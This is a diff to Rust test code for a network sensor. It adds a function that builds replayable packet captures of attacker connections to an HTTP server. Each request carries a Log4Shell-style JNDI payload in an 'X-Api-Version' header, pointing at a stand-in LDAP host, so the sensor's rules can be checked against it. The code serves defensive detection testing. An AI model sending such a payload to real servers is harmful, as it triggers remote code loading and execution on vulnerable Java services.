@@ -2,12 +2,16 @@
 //! one that the sensor listens to. Needs root, ip and tcpreplay.
 
 use std::fs::{self, File};
+use std::net::SocketAddr;
+use std::ops::Range;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 use std::sync::{Mutex, MutexGuard, PoisonError};
 use std::time::{Duration, Instant};
 
-use traffic::{Packet, PcapWriter};
+use traffic::example::cluster;
+use traffic::payload::http::{self, Request};
+use traffic::{Packet, PcapWriter, Random, Side, TcpSession, Track};
 
 use super::{Results, finish};
 
@@ -230,6 +234,26 @@ pub(crate) fn write_capture<'a>(path: &Path, packets: impl IntoIterator<Item = &
         writer.write(packet.time, &packet.bytes).expect("in memory");
     }
     fs::write(path, writer.finish().expect("in memory")).expect("written");
+}
+
+/// The packets of connections from an attacker, one for each port: a request that the example's rules
+/// tell of, and its answer.
+pub(crate) fn attacks(ports: Range<u16>, server: SocketAddr) -> Vec<Packet> {
+    let mut packets = Vec::new();
+    for port in ports {
+        let path = traffic::Path::new((cluster::outside::ATTACKER, port).into(), server);
+        let fields = [("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}")];
+        let request = Request::get("shop.example", "/").fields(&fields).to_bytes();
+        let mut session = TcpSession::new(path, &mut Random::new(u64::from(port)));
+        let mut track = Track::new(0, 1);
+        session.open(&mut track).expect("in memory");
+        session.send(Side::Client, &request, &mut track).expect("in memory");
+        let answer = http::response("404 Not Found", "text/plain", b"nothing here\n");
+        session.send(Side::Server, &answer, &mut track).expect("in memory");
+        session.close(Side::Client, &mut track).expect("in memory");
+        packets.extend(track.into_packets());
+    }
+    packets
 }
 
 /// Is the outer-most IP packet of a frame a fragment of IPv4?
